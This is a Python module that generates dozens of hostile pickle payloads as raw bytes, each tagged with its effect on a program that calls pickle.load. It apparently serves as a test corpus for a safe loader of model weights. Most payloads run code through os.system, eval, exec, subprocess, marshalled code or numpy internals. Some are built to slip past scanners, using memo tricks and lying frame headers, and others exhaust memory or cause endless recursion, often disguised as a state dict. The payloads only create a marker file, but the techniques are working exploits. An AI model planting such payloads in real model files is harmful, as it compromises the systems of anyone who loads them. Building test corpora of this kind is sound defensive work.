"""Hostile pickles as code: each one with what it does to a program that calls `pickle.load`.

`build(marker)` gives the bytes. The effects:

- `code`: the file or folder `marker` comes into being;
- `memory`: memory runs out at 1 GiB, or a hundred times the size of the file is taken;
- `walk`: loads, and whoever walks over the result recurses without end or meets millions of values;
- `accepted`: loads, and is something that weights must not be;
- `refused`: plain pickle refuses as well; here to see with which error we do;
- `varies`: accepted or refused, depending on the version of NumPy.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass

P4 = b"\x80\x04"


@dataclass(frozen=True)
class Attack:
    name: str
    effect: str
    build: Callable[[str], bytes]


ATTACKS: list[Attack] = []


def attack(effect: str):
    def register(build: Callable[[str], bytes]):
        ATTACKS.append(Attack(build.__name__, effect, build))
        return build

    return register


# -- the assembler -------------------------------------------------------------------------------


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    size = value.bit_length() // 8 + 1
    return bytes([0x8A, size]) + value.to_bytes(size, "little", signed=True)


def line(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def dtype(
    code: str, state: bytes = b"(K\x03X\x01\0\0\0<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
) -> bytes:
    return call(line("numpy", "dtype"), text(code), b"\x89", b"\x88") + state


def array(shape: bytes, kind: bytes, content: bytes) -> bytes:
    head = call(
        line("numpy.core.multiarray", "_reconstruct"),
        line("numpy", "ndarray"),
        b"K\0\x85",
        b"C\x01b",
    )
    return head + b"(K\x01" + shape + kind + b"\x89" + content + b"tb"


def weights(*values: bytes) -> bytes:
    """Hide values in something that looks like a state dict."""
    items = b"".join(text(f"layer{i}.weight") + value for i, value in enumerate(values))
    return P4 + b"}(" + items + b"u."


def touch(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def code_of(marker: str) -> bytes:
    return marshal.dumps(compile(touch(marker), "x", "exec"))


# -- names that run code -------------------------------------------------------------------------


@attack("code")
def os_system(marker):
    return weights(call(line("os", "system"), text(f"touch {marker}")))


@attack("code")
def posix_system_by_stack_global(marker):
    return weights(call(stacked("posix", "system"), text(f"touch {marker}")))


@attack("code")
def os_system_without_protocol_header(marker):
    return b"cos\nmkdir\n(S" + repr(marker).encode() + b"\ntR."


@attack("code")
def os_mkdir_by_inst(marker):
    return b"(S" + repr(marker).encode() + b"\nios\nmkdir\n."


@attack("code")
def os_mkdir_by_obj(marker):
    return (
        P4
        + b"("
        + line("pathlib", "PosixPath")
        + text(marker)
        + b"o0"
        + (call(line("os", "mkdir"), text(marker)) + b".")
    )


@attack("code")
def eval_of_an_expression(marker):
    return weights(call(line("builtins", "eval"), text(touch(marker))))


@attack("code")
def eval_in_the_form_of_paddle(marker):
    environment = b"}" + text("data") + b"K\x01s"
    return weights(call(line("builtins", "eval"), text(touch(marker)), environment))


@attack("code")
def eval_of_the_word_data_built_by_another_eval(marker):
    inner = call(line("builtins", "eval"), text(touch(marker)), b"}")
    return weights(call(line("builtins", "eval"), text("data"), b"}" + text("data") + inner + b"s"))


@attack("accepted")
def eval_of_the_word_data_but_no_array(marker):
    environment = b"}" + text("data") + b"K\x01s"
    return weights(call(line("builtins", "eval"), text("data"), environment))


@attack("code")
def exec_of_statements(marker):
    return weights(call(line("builtins", "exec"), text(touch(marker))))


@attack("code")
def importlib_import_module(marker):
    return weights(call(line("importlib", "import_module"), text("evil")))


@attack("code")
def import_by_naming_alone(marker):
    return weights(line("evil", "anything"))


@attack("code")
def runpy_run_module(marker):
    return weights(call(line("runpy", "run_module"), text("evil")))


@attack("code")
def getattr_of_an_imported_module(marker):
    module = call(line("builtins", "__import__"), text("os"))
    function = call(line("builtins", "getattr"), module, text("mkdir"))
    return weights(call(function, text(marker)))


@attack("code")
def dotted_name_through_another_module(marker):
    return weights(call(stacked("os.path", "os.mkdir"), text(marker)))


@attack("code")
def dotted_name_through_an_allowed_module(marker):
    module = call(stacked("collections", "_sys.modules.__getitem__"), text("os"))
    return weights(call(call(line("builtins", "getattr"), module, text("mkdir")), text(marker)))


@attack("code")
def operator_attrgetter(marker):
    getter = call(line("operator", "attrgetter"), text("mkdir"))
    return weights(
        call(call(getter, call(line("builtins", "__import__"), text("os"))), text(marker))
    )


@attack("code")
def map_driven_by_an_allowed_tuple(marker):
    lazy = call(line("builtins", "map"), line("os", "mkdir"), text(marker) + b"\x85")
    return weights(call(line("builtins", "tuple"), lazy))


@attack("code")
def functools_partial(marker):
    return weights(call(call(line("functools", "partial"), line("os", "mkdir"), text(marker))))


@attack("code")
def pkgutil_resolve_name(marker):
    return weights(call(call(line("pkgutil", "resolve_name"), text("os:mkdir")), text(marker)))


@attack("code")
def pydoc_locate(marker):
    return weights(call(call(line("pydoc", "locate"), text("os.mkdir")), text(marker)))


@attack("code")
def timeit_timeit(marker):
    return weights(call(line("timeit", "timeit"), text("pass"), text(touch(marker))))


@attack("code")
def cprofile_runctx(marker):
    return weights(call(line("profile", "runctx"), text(touch(marker)), b"}", b"}"))


@attack("code")
def subprocess_check_call(marker):
    return weights(
        call(line("subprocess", "check_call"), b"](" + text("touch") + text(marker) + b"e")
    )


@attack("code")
def pathlib_touch(marker):
    path = call(line("pathlib", "PosixPath"), text(marker))
    return weights(call(stacked("pathlib", "Path.touch"), path))


@attack("code")
def nested_pickle(marker):
    inner = pickle.dumps(None)[:2] + call(line("os", "mkdir"), text(marker)) + b"."
    return weights(call(line("pickle", "loads"), raw(inner)))


@attack("code")
def function_from_marshalled_code(marker):
    code = call(line("marshal", "loads"), raw(code_of(marker)))
    space = b"}" + text("open") + line("builtins", "open") + b"s"
    return weights(line("types", "FunctionType") + code + space + b"\x86\x81" + b")R")


# -- numpy's own names ---------------------------------------------------------------------------


@attack("code")
def numpy_memmap_writes_a_file(marker):
    arguments = text(marker), text("uint8"), text("w+"), b"K\0", b"K\x01\x85"
    return weights(call(line("numpy", "memmap"), *arguments))


@attack("code")
def numpy_savetxt_overwrites_a_file(marker):
    return weights(call(line("numpy", "savetxt"), text(marker), b"](K\x01e"))


@attack("code")
def numpy_dotted_to_os(marker):
    return weights(call(stacked("numpy.testing._private.utils", "os.mkdir"), text(marker)))


@attack("code")
def numpy_runstring(marker):
    return weights(
        call(stacked("numpy.testing._private.utils", "runstring"), text(touch(marker)), b"}")
    )


@attack("code")
def reconstruct_of_another_class(marker):
    kind = call(line("builtins", "type"), text("A"), line("numpy", "ndarray") + b"\x85", b"}")
    run = call(line("os", "mkdir"), text(marker))
    return weights(
        call(line("numpy.core.multiarray", "_reconstruct"), kind, b"K\0\x85", b"C\x01b"), run
    )


@attack("code")
def object_array_with_a_call_inside(marker):
    content = b"](" + call(line("os", "mkdir"), text(marker)) + b"e"
    kind = call(line("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return weights(array(b"K\x01\x85", kind, content))


@attack("accepted")
def object_array(marker):
    kind = call(line("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return weights(array(b"K\x01\x85", kind, b"]" + text("x") + b"a"))


@attack("accepted")
def structured_dtype(marker):
    field = b"}" + text("a") + dtype("f4") + b"K\0\x86s"
    state = b"(K\x03X\x01\0\0\0|N" + text("a") + b"\x85" + field + b"K\x04K\x01K\0tb"
    return weights(array(b"K\x01\x85", dtype("V4", state), raw(bytes(4))))


@attack("varies")
def object_scalar(marker):
    kind = call(line("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return weights(call(line("numpy.core.multiarray", "scalar"), kind, text("x")))


# -- state of things that are no arrays ----------------------------------------------------------


@attack("code")
def build_on_a_function(marker):
    slots = b"N}" + text("__defaults__") + b"(M\xff\x01\x88ts\x86b"
    return weights(call(line("os", "makedirs") + slots, text(marker)))


@attack("code")
def build_that_plants_setstate(marker):
    thing = call(line("argparse", "Namespace"))
    plant = b"}" + text("__setstate__") + line("os", "mkdir") + b"sb"
    return weights(thing + plant + text(marker) + b"b")


@attack("code")
def extension_code(marker):
    return weights(call(b"\x82\x01", text(marker)))  # the naive side has registered os.mkdir as 1


@attack("refused")
def extension_code_never_registered(marker):
    return weights(call(b"\x83\x01\x7f", text(marker)))


@attack("refused")
def persistent_id(marker):
    return weights(text("layer") + b"Q")


@attack("refused")
def protocol_5_out_of_band_buffer(marker):
    return b"\x80\x05" + b"\x97\x98."


# -- what misleads scanners ----------------------------------------------------------------------


@attack("code")
def stack_global_with_names_from_the_memo(marker):
    remember = text("os") + b"q\x00" + b"0" + text("mkdir") + b"q\x010"
    return P4 + remember + call(text("numpy") + b"0" + b"h\x00h\x01\x93", text(marker)) + b"."


@attack("code")
def stack_global_without_pops_through_the_memo(marker):
    # Only opcodes that real files use: names put into a dictionary first, then recalled.
    remember = b"}(" + text("os") + b"\x94" + text("mkdir") + b"\x94" + text("a") + b"Nu"
    return P4 + remember + call(b"h\x00h\x01\x93", text(marker)) + b"\x86."


@attack("code")
def memo_written_twice(marker):
    decoy = text("numpy") + b"q\x000" + text("os") + b"q\x000"
    return P4 + decoy + call(b"h\x00" + text("mkdir") + b"\x93", text(marker)) + b"."


@attack("code")
def global_behind_a_duplicate(marker):
    return P4 + text("os") + b"2" + b"0" + text("mkdir") + b"\x93" + text(marker) + b"\x85R."


@attack("code")
def runs_before_the_file_breaks(marker):
    return P4 + call(line("os", "mkdir"), text(marker)) + b"0\xff\xff\xff"


@attack("code")
def runs_before_the_file_ends(marker):
    return P4 + call(line("os", "mkdir"), text(marker))


@attack("code")
def name_in_a_frame_that_lies(marker):
    return (
        P4
        + b"\x95"
        + struct.pack("<Q", 3)
        + b"N0N"
        + (call(line("os", "mkdir"), text(marker)) + b".")
    )


@attack("accepted")
def second_pickle_after_the_end(marker):
    return weights(b"N") + P4 + call(line("os", "mkdir"), text(marker)) + b"."


@attack("accepted")
def codec_that_has_to_be_imported(marker):
    return weights(call(line("_codecs", "encode"), text("x"), text("rot13")))


@attack("accepted")
def key_given_twice(marker):
    return P4 + b"}(" + text("a") + b"K\x01" + text("a") + b"K\x02u."


# -- memory and time -----------------------------------------------------------------------------

HUGE = 10**12


@attack("memory")
def bytes_of_a_terabyte(marker):
    return weights(b"\x8e" + struct.pack("<Q", HUGE))


@attack("memory")
def text_of_a_terabyte(marker):
    return weights(b"\x8d" + struct.pack("<Q", HUGE))


@attack("memory")
def bytearray_of_a_terabyte(marker):
    return b"\x80\x05\x96" + struct.pack("<Q", HUGE)


@attack("memory")
def frame_of_a_terabyte(marker):
    return P4 + b"\x95" + struct.pack("<Q", HUGE) + b"N."


@attack("memory")
def bytes_called_with_a_number(marker):
    return weights(call(line("builtins", "bytes"), number(HUGE)))


@attack("memory")
def reconstruct_of_a_terabyte(marker):
    return weights(
        call(
            line("numpy.core.multiarray", "_reconstruct"),
            line("numpy", "ndarray"),
            number(HUGE) + b"\x85",
            b"C\x01b",
        )
    )


@attack("memory")
def array_state_of_a_terabyte(marker):
    return weights(call(line("numpy", "zeros"), number(HUGE)))


@attack("memory")
def list_of_a_range(marker):
    return weights(call(line("builtins", "list"), call(line("builtins", "range"), number(10**10))))


@attack("memory")
def memo_index_of_two_thousand_million(marker):
    return P4 + b"}r" + struct.pack("<I", 2**31 - 1) + b"."


@attack("memory")
def text_encoded_a_thousand_times(marker):
    first = text("a" * 500_000) + b"q\x00"
    again = call(line("_codecs", "encode"), b"h\x00", text("latin1"))
    return P4 + b"](" + first + again * 1000 + b"e."


@attack("walk")
def list_in_itself(marker):
    return P4 + b"]q\x00h\x00a."


@attack("walk")
def dictionary_in_itself(marker):
    return P4 + b"}q\x00" + text("a") + b"h\x00s."


@attack("walk")
def million_nested_tuples(marker):
    return P4 + b")" + b"\x85" * 10**6 + b"."


@attack("walk")
def the_same_list_ten_times_on_each_of_fifteen_levels(marker):
    bottom = P4 + b"](K\x00eq\x000"
    levels = [b"](" + (b"h" + bytes([n])) * 10 + b"eq" + bytes([n + 1]) + b"0" for n in range(15)]
    return bottom + b"".join(levels) + b"h\x0f."


@attack("walk")
def sharing_with_opcodes_of_real_files_only(marker):
    value = b"](" + b"K\x00" + b"e\x94"
    for level in range(15):
        value = b"](" + value + (b"h" + bytes([level])) * 9 + b"e\x94"
    return P4 + b"}" + text("a") + value + b"s."


@attack("accepted")
def million_values_by_a_few_shared_rows(marker):
    row = b"](" + b"K\x00" * 2000 + b"eq\x00"
    return P4 + b"}" + text("a") + b"](" + row + b"h\x00" * 2000 + b"es."


@attack("accepted")
def nested_tuple_as_a_key(marker):
    return P4 + b"}" + b")" + b"\x85" * 1000 + b"K\x01s."


@attack("accepted")
def integer_of_a_million_digits(marker):
    return weights(b"\x8b" + struct.pack("<i", 400_000) + b"\x7f" * 400_000)
